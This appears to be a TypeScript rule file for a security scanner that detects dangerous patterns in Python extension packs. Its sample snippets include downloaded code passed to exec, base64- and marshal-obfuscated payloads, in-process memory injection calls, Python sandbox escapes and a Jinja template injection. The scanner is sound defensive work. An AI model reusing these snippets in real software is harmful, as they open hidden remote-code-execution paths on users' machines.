import { notAcross, sequence } from '../../text-search.ts'
import { argumentOf, argumentsOf, type CodeFacts, isSet, linesOf } from '../code-facts.ts'
import { isDangerousPython } from '../flow/dangerous-python.ts'
import type { Call } from '../flow/flow.ts'
import { isModelHost } from '../flow/hosts.ts'
import { names } from '../flow/names.ts'
import { isDataPlace, runsCode, runsFile, unpickles } from '../flow/python-library.ts'
import { fullTexts, has, isMade, mixAll, type Value } from '../flow/values.ts'
import type { CodeRule, Hit } from '../rule.ts'

/** Returns the code that a call runs, if any. */
function codeOf(call: Call): Value | undefined {
  if (!runsCode.test(call.name)) return undefined
  const code = argumentOf(call, 0, 'source', 'stmt', 'object', 'code', 'cmd')
  // A shell that waits for code gets it from its user.
  return code ?? (call.name === 'timeit.timeit' ? argumentOf(call, 1, 'setup') : undefined)
}

/** Returns the file or module that a call runs. */
function fileOf(call: Call): Value | undefined {
  if (/^(__import__|importlib\.import_module)$/.test(call.name)) {
    const name = argumentOf(call, 0, 'name')
    // A relative name leads to a module of the pack.
    return name?.texts.length && name.texts.every((text) => text.startsWith('.')) ? undefined : name
  }
  if (/^sys\.path\.(append|insert|extend)$/.test(call.name)) return call.args.at(-1)
  if (!runsFile.test(call.name)) return undefined
  const isNamedFirst = /spec_from_file_location|Loader$|^imp\./.test(call.name)
  return argumentOf(call, isNamedFirst ? 1 : 0, 'location', 'path', 'path_name', 'name')
}

function* callHits(facts: CodeFacts, find: (call: Call) => Omit<Hit, 'line'> | undefined): Generator<Hit> {
  for (const call of facts.calls) {
    const hit = find(call)
    if (hit) yield { line: call.line, ...hit }
  }
}

export const downloadedCode: CodeRule = {
  of: 'python',
  id: 'downloaded-code',
  severity: 'critical',
  why: 'The owner of that address controls every machine that has the pack.',
  fix: 'Put the code into the pack, where it can be read and checked.',
  examples: {
    matching: [
      'import requests\nexec(requests.get("https://example.test/x").text)',
      'from urllib.request import urlopen as o\ndef f():\n    data = o("https://example.test").read()\n    code = data.decode()\n    exec(code)',
      'import requests as r\nbody = r.get(u).content\n__import__("builtins").exec(body)',
      'import requests\ndef fetch(u):\n    return requests.get(u).text\ndef go(code):\n    run = exec\n    run(code)\ngo(fetch("https://example.test"))',
      'import requests\nclass A:\n    def load(self):\n        self.code = requests.get(u).text\n    def go(self):\n        eval(self.code)',
      'import requests, runpy\nopen("/tmp/a.py", "w").write(requests.get(u).text)\nrunpy.run_path("/tmp/a.py")',
      'import threading, requests\nthreading.Thread(target=exec, args=(requests.get(u).text,)).start()',
      'import requests\nclass A:\n    def __init__(self):\n        self.code = requests.get(u).text\n    def go(self):\n        eval(self.code)\nA()',
      'import urllib.request, importlib.util\nurllib.request.urlretrieve(u, p)\nimportlib.util.spec_from_file_location("m", p)',
      'import requests\nfrom torch.utils.cpp_extension import load_inline\nload_inline("x", requests.get(u).text)',
      'import urllib.request as r, onnxruntime as o\nr.urlretrieve(u, "a.so")\no.SessionOptions().register_custom_ops_library("a.so")',
      'import sys\nfrom huggingface_hub import snapshot_download\nsys.path.append(snapshot_download("a/b"))',
    ],
    harmless: [
      'import requests\ndata = requests.get("https://example.test").json()\nprint(data)',
      'import requests\ndef a():\n    text = requests.get(u).text\ndef b(text):\n    return eval("1 + 1")',
      'import requests, json\nv = json.loads(requests.get(u).text)\nn = eval("2 * 3")',
      'import requests, re\np = re.compile(requests.get(u).text)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const source = compilesSource.test(call.name) ? mixAll(argumentsOf(call)) : codeOf(call)
      if (has(source, 'network', 'hub', 'download'))
        return { message: `\`${call.name}\` runs what comes from the network.` }
      if (fillsTemplate.test(call.name) && has(mixAll(argumentsOf(call)), 'network', 'download'))
        return {
          message: 'Fills a template from the network, which can reach all of Python.',
          severity: 'high',
        }
      if (!has(fileOf(call), 'network', 'hub', 'download')) return undefined
      // A name can only load an installed module.
      return /^(__import__|importlib\.import_module)$/.test(call.name)
        ? { message: 'Loads a module whose name comes from the network.', severity: 'medium' }
        : { message: `\`${call.name}\` loads code that was downloaded.` }
    }),
}

/** Expressions in such a template reach everything unless it is sandboxed. */
const fillsTemplate = names(/^jinja2\.(Template|Environment\(\)\.from_string)$/)

/** Compiles a text in another language, or a template that may contain code, and runs the result. */
const compilesSource = names(
  /^(mako\.template\.Template|torch\.utils\.cpp_extension\.load_inline|cffi\.FFI\(\)\.(verify|set_source)|cppyy\.cppdef|weave\.inline)$/,
)

export const machineCode: CodeRule = {
  of: 'python',
  id: 'machine-code-in-memory',
  severity: 'high',
  why: 'Machine code that exists only in memory cannot be reviewed.',
  fix: 'Ship a compiled package that others can build from its source.',
  examples: {
    matching: [
      'import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))',
      'from ctypes import CDLL\nCDLL(None).mprotect(address, 4096, 7)',
    ],
    harmless: [
      'import ctypes\nctypes.windll.kernel32.GetTickCount()',
      'import ctypes\nctypes.memmove(a, b, 4)',
    ],
  },
  find: (facts) =>
    callHits(facts, ({ name }) =>
      putsIntoMemory.test(name) ? { message: 'Makes memory whose content can be run.' } : undefined,
    ),
}

const putsIntoMemory = names(
  /^ctypes\.\S*\.(VirtualAlloc(Ex)?|VirtualProtect(Ex)?|RtlMoveMemory|WriteProcessMemory|CreateRemoteThread(Ex)?|QueueUserAPC|mprotect)$/,
)

export const hiddenCode: CodeRule = {
  of: 'python',
  id: 'hidden-code',
  severity: 'critical',
  why: 'Code that is decoded before it runs hides what it does from everyone who reads it.',
  fix: 'Ship the code as readable Python.',
  examples: {
    matching: [
      'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
      'import zlib, base64 as b\nx = zlib.decompress(b.b85decode(blob))\neval(x)',
      'e = exec\ne(bytes.fromhex("7072696e74"))',
      'import marshal\nexec(marshal.loads(data))',
      'getattr(__builtins__, "exec")(__import__("base64").b64decode(blob))',
      'exec("".join(chr(c ^ 7) for c in [119, 117, 110, 105, 115, 47, 54, 46, 13]))',
      'exec(")1(tnirp"[::-1])',
      '_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\nexec((_)(b"=oQDK"))',
      'from PIL import Image\nexec(bytes(Image.open("logo.png").getdata()))',
      'import gzip\nexec(gzip.open("model.gz").read())',
      'exec(open("model.bin").read())',
    ],
    harmless: [
      'import base64\nimage = base64.b64decode(text)',
      'import base64\ndef a(x):\n    y = base64.b64decode(x)\n    return y\ndef b(y):\n    exec("pass")',
      'import re\nre.compile(base64.b64decode(x))',
      'exec("a = 1")',
      'exec(open("config.py").read())',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (has(code, 'decoded')) return { message: `\`${call.name}\` runs something that is decoded first.` }
      if (has(code, 'data') && call.name !== 'eval')
        return { message: `\`${call.name}\` runs what a data file holds.` }
      if (has(fileOf(call), 'decoded'))
        return { message: `\`${call.name}\` loads code that is decoded first.` }
      return undefined
    }),
}

export const requestCode: CodeRule = {
  of: 'python',
  id: 'request-code',
  severity: 'high',
  why: 'Anyone who reaches the tool’s server can run code, such as a web page that its user opens.',
  fix: 'Allow only fixed actions, and check the arguments of requests.',
  examples: {
    matching: [
      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    exec(data["code"])',
    ],
    harmless: [
      '@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    print(data["code"])',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) =>
      has(codeOf(call), 'request') && call.name !== 'compile'
        ? { message: `\`${call.name}\` runs what a request holds.` }
        : undefined,
    ),
}

export const dynamicCode: CodeRule = {
  of: 'python',
  id: 'dynamic-code',
  severity: 'medium',
  why: 'A shared workflow can contain the text that is run here.',
  fix: 'Parse the input with `ast.literal_eval` or a small parser of your own.',
  examples: {
    matching: [
      'def f(text):\n    return eval(text)',
      'exec(open("x.py").read())',
      'code = compile(source, "x", "exec")',
    ],
    harmless: [
      'eval("1 + 1")',
      'model.eval()',
      'import re\nre.compile(x)',
      'import torch\ntorch.compile(model)',
      'import ast\nast.literal_eval(x)',
      'import ast\ndef f(t):\n    tree = ast.parse(t)\n    compile(tree, "x", "eval")',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (!code || !isMade(code)) return undefined
      if (has(code, 'network', 'decoded', 'hub', 'download', 'request')) return undefined
      if ((has(code, 'data') && call.name !== 'eval') || runsOtherFile(call, code)) return undefined
      // Formula nodes check their input by compiling parsed code.
      if (call.name === 'compile' && code.names.includes('ast.parse()')) return undefined
      return { message: `\`${call.name}\` runs a text that is made while the pack runs.` }
    }),
}

/** Such files store values as expressions. A variable for files of both kinds tells nothing. */
function runsOtherFile({ name }: Call, code: Value | undefined): boolean {
  return name !== 'eval' && has(code, 'otherwise') && !has(code, 'source')
}

export const disguisedCode: CodeRule = {
  of: 'python',
  id: 'disguised-code',
  severity: 'high',
  why: 'Code in a file with a misleading name is meant to be overlooked.',
  fix: 'Give the file the extension `.py`.',
  examples: {
    matching: [
      'import runpy, os\nrunpy.run_path(os.path.join(d, "presets.inc"))',
      'import sys, os\nsys.path.insert(0, os.path.join(d, "weights.bin"))',
      'import importlib.util as u\nu.spec_from_file_location("m", d + "/a.txt")',
      'from importlib.machinery import SourceFileLoader\nSourceFileLoader("m", "data/a.dat").load_module()',
      'exec(open(d + "/presets.cfg").read())',
      'with open(os.path.join(d, "presets.cfg")) as f:\n    code = compile(f.read(), "x", "exec")',
      'from pathlib import Path\nexec(Path("a.json").read_text())',
    ],
    harmless: [
      'import runpy, os\nrunpy.run_path(os.path.join(d, "setup.py"))',
      'import sys, os\nsys.path.insert(0, os.path.join(d, "tools-1.2"))',
      'import importlib.util as u\nu.spec_from_file_location("m", os.path.join(d, name))',
      'import runpy\nrunpy.run_module("tools.bin")',
      'import ctypes\nctypes.CDLL("libfoo.so")',
      'exec(open(d + "/presets.py").read())',
      'exec(open("_version").read())',
      'with open("a.json") as f:\n    json.load(f)\nwith open("a.py") as f:\n    exec(f.read())',
      'size = eval(open("sizes.cfg").read())',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const code = codeOf(call)
      if (runsOtherFile(call, code) && !has(code, 'data', 'decoded', 'network'))
        return { message: `\`${call.name}\` runs what a file holds that is not named like code.` }
      const isFile = runsSource.test(call.name)
      if (!isFile && !/^sys\.path\.(append|insert|extend)$/.test(call.name)) return undefined
      const place = fileOf(call)?.texts.find(
        (text) => isDataPlace(text) || /\.(inc|cfg|ini|conf|json|ya?ml|toml|xml|csv)$/i.test(text),
      )
      return place === undefined
        ? undefined
        : { message: `\`${call.name}\` loads code from a file that is named like data.` }
    }),
}

/** Functions that run Python from a file. */
const runsSource = names(
  /^(runpy\.run_path|imp\.load_(source|module)|importlib\.util\.spec_from_file_location|importlib\.machinery\.Source(less)?FileLoader|zipimport\.zipimporter|execfile)$/,
)

export const marshalled: CodeRule = {
  of: 'python',
  id: 'marshalled-code',
  severity: 'high',
  why: '`marshal` contains compiled code, which cannot be read or checked.',
  fix: 'Ship the source, or store data as JSON.',
  examples: {
    matching: [
      'import marshal\ncode = marshal.loads(data)',
      'from marshal import load as l\nl(open("x", "rb"))',
      'import importlib\nm = importlib.import_module("mar" + "shal")\nm.loads(x)',
      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY000000")',
    ],
    harmless: ['import json\njson.loads(data)', 'from marshmallow import Schema'],
  },
  *find(facts) {
    for (const { name, line } of facts.calls) {
      if (/^marshal\.loads?$/.test(name)) yield { line, message: 'Loads compiled code with `marshal`.' }
      if (/__pyarmor__$|^pyarmor_runtime/.test(name)) yield { line, message: 'Runs encrypted code.' }
    }
  },
}

const reachingTemplate = sequence(/\{[{%]/, notAcross(/\}/, /__(globals|subclasses|builtins|mro|bases?)__/))

export const hiddenCall: CodeRule = {
  of: 'python',
  id: 'hidden-call',
  severity: 'high',
  why: 'A function name built from pieces is meant to hide the call from readers.',
  fix: 'Call the function by its name.',
  examples: {
    matching: [
      'import os\ngetattr(os, "sys" + "tem")("ls")',
      '__builtins__["ex" + "ec"]("x = 1")',
      'import importlib\nimportlib.import_module("sub" + "process").run(["ls"])',
      'import os\nvars(os)["metsys"[::-1]]("ls")',
      'class X:\n    __class_getitem__ = exec\nX["print(1)"]',
      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("ls")',
      '(lambda: 0).__globals__["__builtins__"]["eval"]("1")',
      'import builtins\nbuiltins.print = exec\nprint(x)',
      'globals().update({"go": exec})\ngo(x)',
      'import jinja2\njinja2.Template("{{ cycler.__init__.__globals__.os.popen(x).read() }}").render()',
      'import sys\nsys.modules["quiet"] = sys.modules["os"]\nimport quiet\nquiet.system(x)',
    ],
    harmless: [
      'import torch\ndtype = getattr(torch, "float" + bits)',
      'import os\nstart = getattr(os, "startfile", None)',
      'import importlib\nimportlib.import_module("." + name, package=__name__)',
      'class Base: pass\nfor sub in Base.__subclasses__(): print(sub)',
      'import builtins\nbuiltins.print = show',
      'import sys, types\nsys.modules["quiet"] = types.ModuleType("quiet")',
    ],
  },
  *find(facts) {
    for (const { name, line, isHidden } of facts.lookups) {
      if (isHidden && (isDangerousPython(name) || hiddenModules.test(name)))
        yield { line, message: `Reaches \`${name}\` by a name that is put together.` }
    }
    for (const { name, line, target } of facts.hooks)
      yield { line, message: `Puts \`${target}\` where Python calls it by itself, as \`${name}\`.` }
    for (const { name, line } of facts.calls) {
      if (name.endsWith('.__subclasses__') && /__base__|__mro__|__bases__/.test(name))
        yield { line, message: 'Walks through all classes of Python to reach one that it does not name.' }
      if (/^sys\.setprofile$/.test(name))
        yield { line, message: 'Watches every call of the program.', severity: 'medium' }
    }
    for (const { text, line } of facts.texts)
      if (reachingTemplate.test(text))
        yield { line, message: 'A template reaches functions of Python that it does not name.' }
      else if (
        text === '__builtins__' &&
        /__globals__\s*\[\s*["']__builtins__/.test(linesOf(facts)[line - 1] ?? '')
      )
        yield { line, message: 'Takes the builtins out of another function.' }
  },
}

const hiddenModules =
  /^(os|subprocess|builtins|base64|marshal|zlib|socket|ctypes|pty|requests|urllib(\.request)?|winreg|pickle)(\.\?)?$/

export const pickled: CodeRule = {
  of: 'python',
  id: 'pickled-data',
  severity: 'low',
  why: 'Loading a pickle runs code, so a file from elsewhere can take over the machine.',
  fix: 'Use safetensors or JSON, or `torch.load(…, weights_only=True)`.',
  examples: {
    matching: [
      'import pickle\npickle.load(f)',
      'import dill\ndill.loads(x)',
      'import pickle, requests\npickle.loads(requests.get(u).content)',
      'import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)',
      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p)',
    ],
    harmless: [
      'import pickle\npickle.dump(x, f)',
      'import json\njson.load(f)',
      'import yaml\nyaml.safe_load(f)',
      'import torch, urllib.request\nurllib.request.urlretrieve("https://example.test/m.pt", p)\ntorch.load(p, weights_only=True)',
      'import torch\ntorch.load(p)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      const from = argumentOf(call, 0, 'f', 'file', 'stream')
      if (/^torch\.load$|^(numpy|np)\.load$/.test(call.name)) return modelHit(call, from)
      if (loadsLayers.test(call.name) && call.keywords.get('safe_mode')?.number === 0)
        return has(from, 'network', 'download', 'stranger')
          ? { message: 'Loads a model from elsewhere whose layers can hold code.', severity: 'high' }
          : { message: 'Loads a model whose layers can hold code.' }
      const isYaml = /^yaml\.(load|load_all|full_load)$/.test(call.name) && !isSafeYaml(call)
      if (!unpickles.test(call.name) && !isYaml) return undefined
      const what = isYaml || call.name.startsWith('yaml') ? 'objects from YAML' : 'a pickle'
      return has(from, 'network', 'download')
        ? { message: `Loads ${what} that comes from the network.`, severity: 'high' }
        : has(from, 'decoded')
          ? { message: `Loads ${what} that is decoded first.`, severity: 'high' }
          : { message: `Loads ${what} with \`${call.name}\`.` }
    }),
}

/** Keras runs code in layers when its safe mode is off. */
const loadsLayers = names(/(^|\.)(load_model|model_from_json)$/)

function isSafeYaml(call: Call): boolean {
  const loader = argumentOf(call, 1, 'Loader')
  return (
    loader === undefined ||
    !loader.names.some((name) => /Unsafe|^yaml\.(Loader|FullLoader|CLoader)$/.test(name))
  )
}

/** Weights from a private server differ from those of a hub, which shows who uploaded them. */
function modelHit(call: Call, from: Value | undefined): Omit<Hit, 'line'> | undefined {
  const isSafe = call.name === 'torch.load' ? isSet(call, 'weights_only') : !isSet(call, 'allow_pickle')
  // Authors who turn the check off for a downloaded file know that it contains code.
  const isOff = call.keywords.get('weights_only')?.number === 0 && !has(from, 'hub')
  if (isSafe || !has(from, 'network', 'download') || !(has(from, 'stranger') || isOff)) return undefined
  return {
    message: 'Loads weights, which can hold code, from a server that is not a known hub of models.',
    severity: 'high',
  }
}

export const remoteModelCode: CodeRule = {
  of: 'python',
  id: 'remote-model-code',
  severity: 'low',
  why: 'The code of that repository runs here, and its owner can change it at any time.',
  fix: 'Name a revision, or put the code into the pack.',
  examples: {
    matching: [
      'import torch\ntorch.hub.load("acme/model", "big")',
      'from transformers import AutoModel\nAutoModel.from_pretrained("acme/model", trust_remote_code=True)',
    ],
    harmless: [
      'import torch\ntorch.hub.load_state_dict_from_url("https://example.test/x")',
      'AutoModel.from_pretrained("acme/model")',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (call.name === 'torch.hub.load' && argumentOf(call, 2, 'source')?.texts[0] !== 'local')
        return { message: 'Runs the code of a repository that `torch.hub` fetches.', ...moreSerious(call) }
      return isSet(call, 'trust_remote_code') &&
        /from_pretrained$|^(transformers\.)?pipeline$/.test(call.name)
        ? { message: 'May run code that comes with a model.', ...moreSerious(call) }
        : undefined
    }),
}

function moreSerious(call: Call): Pick<Hit, 'severity'> {
  return argumentsOf(call).some((value) => has(value, 'network', 'decoded')) ? { severity: 'high' } : {}
}

export const escapedCode: CodeRule = {
  of: 'python',
  id: 'escaped-code',
  severity: 'critical',
  why: 'Text written as escapes hides its meaning from readers.',
  fix: 'Write the code as plain text.',
  examples: {
    matching: [`exec("${'\\\\x70'.repeat(60)}")`.replaceAll('\\\\', '\\'), `eval("${'\\u0070'.repeat(60)}")`],
    harmless: ['exec("x = 1")', `names = "${'\\x70'.repeat(60)}"`],
  },
  *find(facts) {
    for (const call of facts.calls) {
      const code = codeOf(call)
      if (!code || fullTexts(code).length === 0) continue
      const written = linesOf(facts)
        .slice(call.line - 1, call.line + 2)
        .join('\n')
      const escapes = written.match(/\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\N\{|\\[0-7]{3}/g)?.length ?? 0
      if (escapes > 40) yield { line: call.line, message: `\`${call.name}\` runs a text written in escapes.` }
    }
  },
}

export const downloadsCode: CodeRule = {
  of: 'python',
  id: 'code-download',
  severity: 'medium',
  why: 'Code that is downloaded later was not there when the version was checked.',
  fix: 'Put the code into the pack, or depend on a released package.',
  examples: {
    matching: [
      'import urllib.request\nurllib.request.urlretrieve("https://example.test/tool.exe", p)',
      'import git\ngit.Repo.clone_from("https://example.test/x", p)',
    ],
    harmless: [
      'import urllib.request\nurllib.request.urlretrieve("https://example.test/model.safetensors", p)',
    ],
  },
  find: (facts) =>
    callHits(facts, (call) => {
      if (/clone_from$/.test(call.name)) return { message: 'Fetches a repository while it runs.' }
      if (
        !/(^|\.)(urlretrieve|download_url_to_file|urlopen)$|^requests\.get$|^wget\.download$/.test(call.name)
      )
        return undefined
      const address = argumentOf(call, 0, 'url')?.texts.find((text) =>
        /\.(py|pyd|exe|dll|so|bat|ps1|sh|msi|scr|vbs|jar|whl)([?#]|$)/i.test(text),
      )
      return address === undefined
        ? undefined
        : {
            message: `Downloads ${isModelHost(address) ? 'a program' : 'a program from a server of its own'}.`,
          }
    }),
}

export const codeRules = [
  downloadedCode,
  machineCode,
  hiddenCode,
  requestCode,
  dynamicCode,
  disguisedCode,
  marshalled,
  hiddenCall,
  pickled,
  remoteModelCode,
  escapedCode,
  downloadsCode,
]
